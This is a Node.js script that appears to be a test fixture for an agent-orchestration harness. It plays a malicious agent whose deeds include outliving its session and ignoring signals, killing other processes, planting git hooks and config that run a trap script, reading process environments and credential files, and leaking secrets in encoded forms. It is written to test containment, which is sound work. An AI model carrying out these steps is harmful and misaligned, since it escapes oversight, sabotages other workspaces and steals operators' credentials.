#!/usr/bin/env node
// An agent that means harm. What it does stands in the first word of the task's title; where its targets lie, in the
// JSON file that it is given. It tries everything and stops at nothing; what it managed, the story looks for afterwards.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';

const targets = JSON.parse(readFileSync(process.argv[2], 'utf8'));
const task = JSON.parse(readFileSync(process.env.MUSTER_TASK_FILE, 'utf8'));
const [verb = ''] = task.title.toLowerCase().split(' ');

function attempt(act) {
  try {
    return act();
  } catch {
    return null;
  }
}

function sh(script, ...args) {
  return spawnSync('/bin/sh', ['-c', script, 'sh', ...args], { encoding: 'utf8', timeout: 20_000 });
}

function work(text = `${task.title}\n`) {
  mkdirSync('work', { recursive: true });
  writeFileSync(`work/${task.orchestration}-${process.env.MUSTER_TASK}.txt`, text);
}

/** Itself, and whoever would take it along. */
function ancestors(pid = process.pid) {
  const stat = attempt(() => readFileSync(`/proc/${pid}/stat`, 'utf8'));
  const parent = Number(stat?.slice(stat.lastIndexOf(')') + 2).split(' ')[1] ?? 0);
  return parent > 0 ? [pid, ...ancestors(parent)] : [pid];
}

/** Every file below a directory, at most `most` bytes in all. */
function* filesBelow(dir, most = { bytes: 30_000_000 }) {
  for (const name of attempt(() => readdirSync(dir)) ?? []) {
    const path = join(dir, name);
    const found = attempt(() => lstatSync(path));
    if (found === null) continue;
    if (found.isDirectory()) yield* filesBelow(path, most);
    else if (found.isFile() && found.size < most.bytes) {
      most.bytes -= found.size;
      yield path;
    }
  }
}

const deeds = {
  daemon() {
    const hide = `cd /; trap "" TERM HUP INT QUIT; sleep ${targets.rare} & while :; do echo x >> "$0"; sleep 0.02; done`;
    const twice = 'setsid /bin/sh -c "$1" "$2" < /dev/null > /dev/null 2>&1 & exit 0';
    spawn('setsid', ['env', '-i', '/bin/sh', '-c', twice, 'sh', hide, join(process.cwd(), 'later')], {
      detached: true,
      stdio: 'ignore',
    }).unref();
    while (!existsSync('later')) sh('sleep 0.02');
    work();
  },
  immortal() {
    for (const signal of ['SIGTERM', 'SIGHUP', 'SIGINT', 'SIGQUIT']) process.on(signal, () => {});
    work();
    sh(`trap "" TERM HUP INT; sleep ${targets.rare}`);
    setInterval(() => console.log('still here'), 50);
  },
  flood() {
    spawnSync('head', ['-c', String(1024 ** 3), '/dev/zero'], { stdio: ['ignore', 'inherit', 'inherit'] });
    spawnSync('/bin/sh', ['-c', 'yes "::muster {\\"percent\\":50}" | head -c 20000000'], { stdio: 'inherit' });
    work();
  },
  reach() {
    const others = targets.siblings.filter((dir) => dir !== process.cwd());
    const places = [
      ...targets.outside,
      `${targets.dataDir}/evil`,
      `${targets.dataDir}/db/pgdata/PG_VERSION`,
      `${targets.dataDir}/agents/evil`,
      `${targets.bare}/hooks/post-receive`,
      `${targets.bare}/refs/heads/main`,
      `${targets.bare}/config`,
      ...others.flatMap((dir) => [`${dir}/work/evil`, `${dir}/README.md`]),
    ];
    for (const path of places) attempt(() => writeFileSync(path, '#!/bin/sh\necho evil\n', { mode: 0o777 }));
    for (const pid of (attempt(() => readdirSync('/proc')) ?? []).filter((name) => /^\d+$/.test(name)))
      for (const dir of [...others, targets.dataDir, targets.bare])
        attempt(() => writeFileSync(`/proc/${pid}/root${dir}/evil`, 'evil'));
    const pids = (attempt(() => readdirSync('/proc')) ?? []).filter((name) => /^\d+$/.test(name)).map(Number);
    for (const pid of pids) if (!ancestors().includes(pid)) attempt(() => process.kill(pid, 'SIGKILL'));
    attempt(() =>
      execFileSync('git', ['push', '-f', `${targets.url}/${targets.repo}.git`, 'HEAD:main'], {
        stdio: 'ignore',
        timeout: 10_000,
        env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
      }),
    );
    work();
  },
  plant() {
    const trap = join(process.cwd(), '.git', 'trap.sh');
    writeFileSync(trap, `#!/bin/sh\necho off >> ${targets.mark}\ncat\n`, { mode: 0o755 });
    const lines = [
      'mkdir -p .git/hooks; for hook in pre-commit commit-msg post-checkout post-index-change reference-transaction pre-push; do cp "$1" ".git/hooks/$hook"; done',
      'for scope in --local --global; do',
      '  git config $scope core.fsmonitor "$1"; git config $scope core.hooksPath "$PWD/.git/hooks"; git config $scope core.sshCommand "$1"',
      '  for part in clean smudge process; do git config $scope filter.evil.$part "$1"; done',
      '  git config $scope diff.external "$1"; git config $scope diff.evil.textconv "$1"; git config $scope merge.evil.driver "$1"',
      '  git config $scope credential.helper "$1"; git config $scope core.pager "$1"; git config $scope gpg.program "$1"; git config $scope commit.gpgSign true',
      'done',
      'echo "* filter=evil diff=evil merge=evil text eol=crlf ident" > .gitattributes; cp .gitattributes .git/info/attributes',
      'git init -q nested; cp .git/config nested/.git/config; mkdir -p nested/.git/hooks; cp "$1" nested/.git/hooks/post-checkout; echo n > nested/n',
      'git -c core.fsmonitor=false -c core.hooksPath=/dev/null -c filter.evil.clean= -c filter.evil.process= commit -qam "fixes #1" --no-gpg-sign',
    ];
    sh(lines.join('\n'), trap);
    work();
  },
  idle() {},
  steal() {
    const loot = [];
    const take = (path) => loot.push(attempt(() => readFileSync(path, 'latin1')) ?? '');
    for (const pid of (attempt(() => readdirSync('/proc')) ?? []).filter((name) => /^\d+$/.test(name)))
      for (const file of ['environ', 'cmdline', `root${targets.keyFile}`, `cwd/${targets.keyFile}`])
        take(`/proc/${pid}/${file}`);
    for (const path of [targets.keyFile, targets.config, '/root/.git-credentials', '/root/.netrc']) take(path);
    for (const path of filesBelow(targets.dataDir)) take(path);
    loot.push(sh('ps auxeww; cat /proc/*/environ; mount').stdout ?? '');
    work();
    const end = () => {
      // what it was given is its own
      const found = loot.join('\n').replaceAll(process.env.ROBOT_API_KEY, '');
      writeFileSync('loot.txt', found.slice(-8_000_000));
      process.exit(0);
    };
    // the server's own questions are for the operator alone
    const socket = connect(`${targets.dataDir}/control.sock`);
    socket.on('data', (data) => loot.push(`CONTROL ${data.toString('latin1')}`));
    socket.on('error', end).on('close', end);
    socket.write(`GET /${encodeURIComponent('{"kind":"status"}')} HTTP/1.0\r\n\r\n`);
    setTimeout(end, 3_000).unref();
  },
  hoard() {
    work(`for later: ${[...spellings()].join('\n')}\n`);
  },
  link() {
    work();
    symlinkSync('/etc/passwd', 'passwords');
    symlinkSync('../../../../../db', 'work/db');
  },
  govern() {
    work();
    mkdirSync('.github/workflows', { recursive: true });
    writeFileSync('.github/workflows/ci.yml', 'on: push\n');
    writeFileSync('.github/muster.yml', 'merge: auto\nverify: "true"\nallow_unverified: true\n');
  },
  test() {
    work();
    const loot = [targets.keyFile, `${targets.github}/`, `${targets.dataDir}/`, targets.config].map(
      (path) => `'${path}'`,
    );
    const script = [
      'echo looking',
      `grep -rhsI -m 20 . ${loot.join(' ')} | head -c 20000`,
      'cat /proc/[0-9]*/environ | tr "\\0" "\\n" | head -c 20000',
      ...targets.outside.map((path) => `echo evil > '${path}'`),
      'echo looked',
    ];
    mkdirSync('tests', { recursive: true });
    writeFileSync('tests/steal.sh', `{\n${script.join('\n')}\n} 2> /dev/null\n`);
  },
  tell() {
    for (const line of spellings()) console.log(line);
    console.log(`::muster ${JSON.stringify({ percent: 30, stage: targets.secrets[0] })}`);
    work();
  },
  confess() {
    for (const line of spellings()) console.error(`Error: cannot log in with ${line}`);
    process.exit(3);
  },
  shout() {
    for (const line of targets.shouts) console.log(line);
    work();
  },
  fail() {
    for (const line of targets.shouts) console.error(`Error: ${line}`);
    process.exit(4);
  },
  honest() {
    sh('sleep 2');
    work('honest\n');
    writeFileSync(
      `seen-${process.env.MUSTER_TASK}.txt`,
      `${readdirSync('.')
        .filter((name) => name !== '.git')
        .sort()
        .join('\n')}\n`,
    );
  },
};

/** What a leak could look like: as it is, in JSON, base64, a URL, a header, an address. */
function* spellings() {
  for (const secret of targets.secrets) {
    yield secret;
    yield JSON.stringify({ secret });
    yield Buffer.from(secret).toString('base64');
    yield Buffer.from(`user:${secret}`).toString('base64');
    yield encodeURIComponent(secret);
    yield `https://x-access-token:${secret}@github.com/acme/shop.git`;
    yield `Authorization: Bearer ${secret}`;
  }
}

appendFileSync('/dev/null', readFileSync(0)); // the prompt
(deeds[verb] ?? work)();
